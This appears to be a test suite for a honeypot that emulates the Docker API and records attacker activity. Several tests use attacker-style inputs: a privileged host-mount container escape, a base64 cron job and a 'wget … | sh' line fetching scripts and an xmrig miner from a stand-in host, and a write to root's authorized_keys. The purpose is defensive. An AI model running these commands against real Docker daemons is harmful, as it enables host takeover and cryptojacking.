"""Docker's API: what clients of every kind ask, and what they bring."""

from __future__ import annotations

import io
import json
import tarfile
from typing import Any

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, RequestReceived
from eudaemon.protocols._api import EARLY_BYTES_MAX, TASKS_MAX, body_of, command_line
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols._http import Request
from eudaemon.protocols.docker import Docker
from eudaemon.protocols.docker.containers import CONTAINERS_MAX, EXECUTIONS_MAX, Execution, Made, Shelf, words_of
from eudaemon.protocols.docker.daemon import daemon_of, normalised
from eudaemon.protocols.docker.room import FILES_MAX
from eudaemon.protocols.docker.routes import WAIT_S_MAX
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse
from eudaemon.wire.tar import MEMBERS_MAX, members
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed
from payload.servers import SIZES, content

HOST = Host.from_seed(Seed(b"test"))
OWNERS = daemon_of(HOST).images[0]


class Client:
    """One connection; `memory` is what the sensor remembers of the address."""

    def __init__(self, memory: Memory | None = None, *, split: int = 0, bytes_max: int = 32 << 20) -> None:
        self.memory = memory or Memory()
        given = visit(host=HOST, port=2375, purse=Purse(bytes_max), memory=self.memory)
        self.table = Table(Docker(given)).open()
        self.split = split

    def ask(self, method: str, path: str, body: bytes | dict[str, Any] = b"", head: str = "") -> tuple[int, bytes]:
        """Ask; return status and body, chunks undone."""
        data = json.dumps(body).encode() if isinstance(body, dict) else body
        text = f"{method} {path} HTTP/1.1\r\nHost: a\r\nContent-Length: {len(data)}\r\n{head}\r\n"
        before = len(self.table.sent)
        self.table.say(text.encode() + data, self.split)
        self.table.wait(0.5)
        return parsed(self.table.sent[before:])

    def json(self, method: str, path: str, body: bytes | dict[str, Any] = b"") -> Any:
        return json.loads(self.ask(method, path, body)[1])

    def create(self, *words: str, image: str = OWNERS, **more: Any) -> str:
        status, body = self.ask("POST", "/v1.41/containers/create", {"Image": image, "Cmd": list(words), **more})
        assert status == 201, body
        return str(json.loads(body)["Id"])

    @property
    def lines(self) -> list[str]:
        return [fact.line for fact in self.table.facts if isinstance(fact, CommandEntered)]

    @property
    def exploits(self) -> list[str]:
        return [fact.name for fact in self.table.facts if isinstance(fact, ExploitRecognised)]


def parsed(answer: bytes) -> tuple[int, bytes]:
    head, _, body = answer.partition(b"\r\n\r\n")
    if b"Transfer-Encoding: chunked" in head:
        whole, body = body, b""
        while whole:
            size, _, whole = whole.partition(b"\r\n")
            body += whole[: int(size, 16)]
            whole = whole[int(size, 16) + 2 :]
    return int(head.split(b" ")[1]), body


def archive(**files: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data in files.items():
            entry = tarfile.TarInfo(name)
            entry.size, entry.mode = len(data), 0o755
            tar.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def test_the_head_is_as_gos() -> None:
    daemon = daemon_of(HOST)
    answer = Client().table.say(b"GET /_ping HTTP/1.1\r\nHost: a\r\n\r\n").decode()
    assert answer.split("\r\n") == [
        "HTTP/1.1 200 OK", f"Api-Version: {daemon.api}", "Builder-Version: ",
        "Cache-Control: no-cache, no-store, must-revalidate", "Content-Type: text/plain; charset=utf-8",
        "Docker-Experimental: false", "Ostype: linux", "Pragma: no-cache", f"Server: Docker/{daemon.version} (linux)",
        "Date: Tue, 14 Nov 2023 22:13:20 GMT", "Content-Length: 2", "", "OK",
    ]  # fmt: skip
    assert Client().table.say(b"GET / HTTP/1.0\r\n\r\n") == (
        b"HTTP/1.0 404 Not Found\r\nContent-Type: application/json\r\nDate: Tue, 14 Nov 2023 22:13:20 GMT\r\n"
        b'Content-Length: 29\r\n\r\n{"message":"page not found"}\n'
    )
    no_host = Client().table.say(b"GET /version HTTP/1.1\r\n\r\n")
    assert no_host.startswith(b"HTTP/1.1 400 Bad Request: missing required Host header\r\n")
    assert Client().table.say(b"\x00\x01\r\n\r\n").startswith(b"HTTP/1.1 400 Bad Request\r\n")


@pytest.mark.parametrize("split", [0, 1])
def test_what_it_says_of_itself_agrees(split: int) -> None:
    client = Client(split=split)
    version, info = client.json("GET", "/version"), client.json("GET", "/v1.39/info")
    assert version["Version"] == info["ServerVersion"] == daemon_of(HOST).version
    assert version["KernelVersion"] == info["KernelVersion"] == daemon_of(HOST).inside.kernel
    assert info["Containers"] == len(client.json("GET", "/containers/json")) >= 1
    assert info["Images"] == len(client.json("GET", "/images/json")) >= 1
    assert client.json("GET", "/volumes")["Volumes"] == []
    assert [row["Name"] for row in client.json("GET", "/networks")] == ["bridge", "host", "none"]
    assert [fact.target for fact in client.table.facts if isinstance(fact, RequestReceived)][:2] == [
        "/version",
        "/v1.39/info",
    ]


def test_no_two_installations_are_alike() -> None:
    daemons = [daemon_of(Host.from_seed(Seed(b"%d" % n))) for n in range(24)]
    assert len({daemon.version for daemon in daemons}) > 3
    assert len({json.dumps(daemon.told_info(0.0, containers=1, images=1)) for daemon in daemons}) == 24
    assert len({daemon.images for daemon in daemons}) > 6


def test_an_image_is_pulled_before_it_is_run() -> None:
    client = Client()
    status, body = client.ask("POST", "/containers/create", {"Image": "alpine", "Cmd": ["id"]})
    assert (status, json.loads(body)) == (404, {"message": "No such image: alpine:latest"})
    assert client.ask("GET", "/images/alpine:latest/json")[0] == 404
    said = client.ask("POST", "/images/create?fromImage=docker.io%2Flibrary%2Falpine&tag=latest")[1]
    assert b"Status: Downloaded newer image for alpine:latest" in said
    assert client.ask("GET", "/images/alpine/json")[0] == 200
    assert client.create("id", image="alpine")
    assert "alpine:latest" in {row["RepoTags"][0] for row in client.json("GET", "/images/json")}
    assert "docker pull docker.io/library/alpine:latest" in client.lines


def test_a_worm_of_the_day() -> None:
    """As TeamTNT and Kinsing do it: mount the host, write a job for its cron."""
    client = Client()
    number = client.create(
        "chroot", "/mnt", "sh", "-c",
        "echo 'KiAqICogKiogcm9vdCBjdXJsIGh0dHA6Ly8xOTguNTEuMTAwLjcvZC5zaHxzaAo=' | base64 -d > /etc/cron.d/1; "
        "wget -qO- http://198.51.100.7/cronb.sh | sh",
        HostConfig={"Binds": ["/:/mnt"], "Privileged": True, "NetworkMode": "host"},
    )  # fmt: skip
    assert client.exploits == ["docker-escape"]
    assert client.lines[0].startswith(f"docker run --privileged --net=host -v /:/mnt {OWNERS} chroot /mnt sh -c 'echo ")
    assert [wish.download.url for wish in client.table.wishes] == ["http://198.51.100.7/cronb.sh"]
    assert client.ask("POST", f"/containers/{number}/start") == (204, b"")
    client.table.answer("ok", b"wget http://198.51.100.7/xmrig\n")
    assert [wish.download.url for wish in client.table.wishes] == ["http://198.51.100.7/xmrig"]
    client.table.answer("failed")
    client.table.end()
    cron = [keep for keep in client.table.kept if keep.name == "/etc/cron.d/1"]
    assert [keep.data for keep in cron] == [b"* * * ** root curl http://198.51.100.7/d.sh|sh\n"]


def test_what_a_container_mounts_is_where_it_is_mounted() -> None:
    client = Client()
    client.create("sh", "-c", "echo x > /host/root/.ssh/authorized_keys; cat /root/.ssh/authorized_keys; ls /host",
                  HostConfig={"Mounts": [{"Type": "bind", "Source": "/", "Target": "/host"}]})  # fmt: skip
    number = client.json("GET", "/containers/json")[0]["Id"]
    output = client.ask("GET", f"/containers/{number}/logs?stdout=1")[1]
    assert output[:4] == b"\x01\0\0\0"
    assert output[8:].startswith(b"x\nbin ")
    assert client.exploits == ["docker-escape"]


def test_every_request_may_have_its_own_connection() -> None:
    memory = Memory()
    number = Client(memory).create("sh", "-c", "id -u; exit 3")
    assert Client(memory).ask("POST", f"/containers/{number}/start")[0] == 204
    assert Client(memory).json("POST", f"/containers/{number[:12]}/wait") == {"Error": None, "StatusCode": 3}
    assert Client(memory).ask("GET", f"/containers/{number}/logs") == (200, b"\x01\0\0\0\0\0\0\x020\n")
    assert Client(memory).json("GET", f"/containers/{number}/json")["Config"]["Image"] == OWNERS
    created = Client(memory).json("POST", f"/containers/{number}/exec", {"Cmd": ["sh", "-c", "echo hi; exit 4"]})
    assert Client(memory).ask("POST", f"/exec/{created['Id']}/start", {})[1] == b"\x01\0\0\0\0\0\0\x03hi\n"
    assert Client(memory).json("GET", f"/exec/{created['Id']}/json")["ExitCode"] == 4
    assert Client().ask("POST", f"/containers/{number}/start")[0] == 404, "it belongs to the address that made it"


def test_an_upgraded_connection_is_a_stream() -> None:
    client = Client()
    number = client.create("sh", Tty=True, OpenStdin=True)
    head = "Connection: Upgrade\r\nUpgrade: tcp\r\n"
    status, prompt = client.ask("POST", f"/containers/{number}/attach?stream=1&stdin=1&stdout=1", head=head)
    assert (status, prompt) == (101, b"/ # ")
    assert client.table.say(b"id -u\r") == b"id -u\r\n0\r\n/ # "
    assert client.table.say(b"sleep 1\r") == b"sleep 1\r\n"
    client.table.wait(2)
    assert client.table.sent.endswith(b"sleep 1\r\n/ # ")
    client.table.say(b"exit\r")
    assert client.table.over


def test_who_waits_for_a_shell_waits_as_long_as_somebody_is_there() -> None:
    memory = Memory()
    client, waiting = Client(memory), Client(memory)
    number = client.create("sh", Tty=True, OpenStdin=True)
    client.ask("POST", f"/containers/{number}/attach?stdin=1", head="Upgrade: tcp\r\n")
    waiting.table.say(f"POST /containers/{number}/wait HTTP/1.1\r\nHost: a\r\n\r\n".encode())
    waiting.table.wait(5)
    assert waiting.table.sent == b""
    client.table.say(b"exit\r")
    waiting.table.wait(1)
    assert parsed(waiting.table.sent)[1] == b'{"Error":null,"StatusCode":0}\n'
    client = Client(memory)
    client.ask("POST", f"/containers/{number}/attach?stdin=1", head="Upgrade: tcp\r\n")
    waiting = Client(memory)
    waiting.table.say(f"POST /containers/{number}/wait HTTP/1.1\r\nHost: a\r\n\r\n".encode())
    waiting.table.wait(WAIT_S_MAX - 1)
    assert waiting.table.sent == b""
    waiting.table.wait(2)
    assert waiting.table.sent


def test_lines_may_come_from_a_pipe() -> None:
    client = Client()
    number = client.create("sh", OpenStdin=True)
    status, answer = client.ask("POST", f"/containers/{number}/attach?stdin=1", head="Upgrade: tcp\r\n")
    assert status == 101
    assert client.table.say(b"wget -qO- http://198.51.100.7/x\necho later\n") == b""
    client.table.tell(HalfClosed(client.table.at_s))
    assert not client.table.over
    client.table.answer("ok", b"came\n")
    assert client.table.sent.endswith(b"\x01\0\0\0\0\0\0\x05came\n\x01\0\0\0\0\0\0\x06later\n")
    assert client.table.over
    assert answer == b""


def test_lines_that_come_before_the_stream_has_begun() -> None:
    client = Client()
    number = client.create("sh", OpenStdin=True)
    client.table.say(f"POST /containers/{number}/attach?stdin=1 HTTP/1.1\r\nHost: a\r\nUpgrade: tcp\r\n\r\n".encode())
    client.table.say(b"echo early\n")
    client.table.tell(HalfClosed(client.table.at_s))
    assert client.table.sent.endswith(b"\x01\0\0\0\0\0\0\x06early\n")
    assert client.table.over
    for past in (0, 1):
        client = Client()
        number = client.create("sh", OpenStdin=True)
        client.table.say(f"POST /containers/{number}/attach?stdin=1 HTTP/1.1\r\nHost: a\r\n\r\n".encode())
        client.table.say(b"\n" * (EARLY_BYTES_MAX + past))
        assert bool(client.table.fault) == bool(past)


def test_an_execution_in_a_container_of_the_owners() -> None:
    client = Client()
    owners = client.json("GET", "/containers/json")[0]["Id"]
    created = client.json("POST", f"/containers/{owners}/exec", {"Cmd": ["wget", "http://198.51.100.7/x"]})
    assert client.ask("POST", f"/exec/{created['Id']}/start", {"Detach": True}) == (200, b"")
    assert [wish.download.url for wish in client.table.wishes] == ["http://198.51.100.7/x"]
    assert client.ask("POST", f"/containers/{owners}/exec", {})[0] == 400
    assert client.ask("POST", "/containers/nothing/exec", {"Cmd": ["id"]})[0] == 404
    assert client.ask("POST", "/exec/nothing/start", {})[0] == 404


@pytest.mark.parametrize("size", SIZES)
def test_an_uploaded_file_is_kept_byte_for_byte(size: int) -> None:
    client = Client(bytes_max=64 << 20)
    number = client.create("sh")
    status, _ = client.ask("PUT", f"/containers/{number}/archive?path=%2Ftmp", archive(bot=content(size), second=b"2"))
    assert status == 200
    kept = [(keep.origin, keep.name, keep.data, keep.partial) for keep in client.table.kept]
    assert kept == [("upload", "/tmp/bot", content(size), False), ("upload", "/tmp/second", b"2", False)]
    assert client.ask("HEAD", f"/containers/{number}/archive?path=/tmp/bot")[0] == 200
    assert client.ask("HEAD", f"/containers/{number}/archive?path=/tmp/nothing")[0] == 404
    client.table.end()
    assert len(client.table.kept) == 2, "once"


def test_an_uploaded_file_is_there_for_the_next_connection() -> None:
    memory = Memory()
    number = Client(memory).create("sh")
    script = b"#!/bin/sh\nwget http://198.51.100.7/x\n"
    Client(memory).ask("PUT", f"/containers/{number}/archive?path=/", archive(bot=script, big=content(100_000)))
    client = Client(memory)
    created = client.json("POST", f"/containers/{number}/exec", {"Cmd": ["sh", "-c", "ls -l /big; /bot"]})
    client.ask("POST", f"/exec/{created['Id']}/start", {"Detach": True})
    assert [wish.download.url for wish in client.table.wishes] == ["http://198.51.100.7/x"]
    client.table.answer("failed")
    assert "100000" in Shelf.of(memory, "198.51.100.7").containers[0].output


def test_an_upload_that_breaks_off_is_kept_as_a_part() -> None:
    client = Client()
    data = archive(bot=content(65_536))
    head = f"PUT /containers/x/archive?path=/tmp HTTP/1.1\r\nHost: a\r\nContent-Length: {len(data)}\r\n\r\n"
    client.table.say(head.encode() + data[:40_000])
    client.table.end()
    assert [(keep.name, keep.data, keep.partial) for keep in client.table.kept] == [
        ("/tmp/bot", content(65_536)[: 40_000 - 512], True)
    ]


def test_an_image_is_built() -> None:
    client = Client()
    recipe = b"FROM alpine\n# a remark\nCOPY run.sh /\nRUN chmod +x /run.sh && \\\n  /run.sh\nCMD sh\n"
    context = archive(Dockerfile=recipe, **{"run.sh": b"#!/bin/sh\nwget http://198.51.100.7/x\n"})
    assert (
        client.table.say(
            f"POST /build?t=x HTTP/1.1\r\nHost: a\r\nContent-Length: {len(context)}\r\n\r\n".encode() + context
        )
        == b""
    ), "the answer tells how it went"
    client.table.answer("ok", b"\x7fELF")
    status, said = parsed(client.table.sent)
    assert status == 200
    assert b"Step 3/4 : RUN chmod +x /run.sh " in said
    assert b"Successfully built " in said
    assert [keep.name for keep in client.table.kept][:2] == ["Dockerfile", "run.sh"]


def test_archives_of_every_kind() -> None:
    for form in (tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT):
        out = io.BytesIO()
        names = ["a", "b" * 90 + "/" + "c" * 60] + (["d" * 200] if form != tarfile.USTAR_FORMAT else [])
        with tarfile.open(fileobj=out, mode="w", format=form) as tar:
            folder = tarfile.TarInfo("folder")
            folder.type = tarfile.DIRTYPE
            tar.addfile(folder)
            for name in names:
                entry = tarfile.TarInfo(name)
                entry.size = 700
                tar.addfile(entry, io.BytesIO(bytes(700)))
        found = list(members(out.getvalue()))
        assert [(len(member.data), member.whole) for member in found] == [(700, True)] * len(names)
        assert [member.name.decode() for member in found][:2] == names[:2]
    assert list(members(b"")) == list(members(bytes(1024))) == list(members(b"no archive" * 100)) == []
    assert len(list(members(archive(**{str(n): b"" for n in range(MEMBERS_MAX + 1)})))) == MEMBERS_MAX


def test_what_is_asked_wrongly() -> None:
    client = Client()
    assert client.ask("POST", "/containers/create", b"nonsense")[0] == 400
    assert client.ask("POST", "/containers/create", b"[" * 100_000)[0] == 400
    for path in ("/containers/x/json", "/containers/x/logs", "/exec/x/json", "/nothing"):
        assert client.ask("GET", path)[0] == 404, path
    for path in ("/containers/x/wait", "/containers/x/attach", "/containers/x/start"):
        assert client.ask("POST", path)[0] == 404, path
    client = Client()
    client.create(Entrypoint=7, HostConfig=[], WorkingDir=5, Tty="yes")


def test_words_and_lines() -> None:
    assert words_of("id; ls") == ["/bin/sh", "-c", "id; ls"]
    assert words_of(["a", 5, None, "b"]) == ["a", "b"]
    assert words_of({"a": 1}) == []
    assert command_line(["sh", "-c", "echo 'a' b"]) == b"sh -c 'echo '\\''a'\\'' b'"
    assert normalised("docker.io/library/alpine") == normalised("alpine") == "alpine:latest"
    assert normalised("host:5000/a/b") == "host:5000/a/b:latest"


def test_limits() -> None:
    memory = Memory()
    shelf = Shelf()
    for number in range(CONTAINERS_MAX + 1):
        shelf.add(Made(f"{number:064d}", f"n{number}", "alpine", ["x" * 8192] * 64, 0, output="\xff" * 1024))
    for number in range(EXECUTIONS_MAX + 1):
        shelf.add(Execution(str(number), "c", ["y" * 8192] * 64))
    assert (len(shelf.containers), len(shelf.executions)) == (CONTAINERS_MAX, EXECUTIONS_MAX)
    shelf.keep(memory, "198.51.100.7")
    again = Shelf.of(memory, "198.51.100.7")
    assert again.containers[-1].name == f"n{CONTAINERS_MAX}", "the newest are remembered"
    for past in (0, 1):
        client = Client()
        for _ in range(FILES_MAX + past):
            client.table.say(create("true"))
        assert bool(client.table.fault) == bool(past)
        client = Client()
        number = client.create("sh")
        made = [client.json("POST", f"/containers/{number}/exec", {"Cmd": ["wget", "http://a/b"]})["Id"]]
        for _ in range(TASKS_MAX + past):
            client.ask("POST", f"/exec/{made[0]}/start", {"Detach": True}) if not client.table.fault else None
        assert bool(client.table.fault) == bool(past)


def create(*words: str) -> bytes:
    body = json.dumps({"Image": OWNERS, "Cmd": list(words)}).encode()
    return b"POST /containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)


def test_whose_conversation_it_is() -> None:
    assert Docker.claim(b"GET /version HTTP/1.1") is Claim.YES
    assert Docker.claim(b"GET / HTTP/1.1") is Claim.UNSURE
    assert Docker.claim(b"\x16\x03") is Claim.NO


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-32-be"])
def test_a_body_is_json_in_utf_8_alone(encoding: str) -> None:
    # Python's json knows others by their first bytes, and would load codecs that a confined sensor cannot.
    text = json.dumps({"Cmd": ["id"]})
    assert body_of(Request("POST", b"/", (1, 1), (), text.encode())) == {"Cmd": ["id"]}
    assert body_of(Request("POST", b"/", (1, 1), (), text.encode(encoding))) == {}
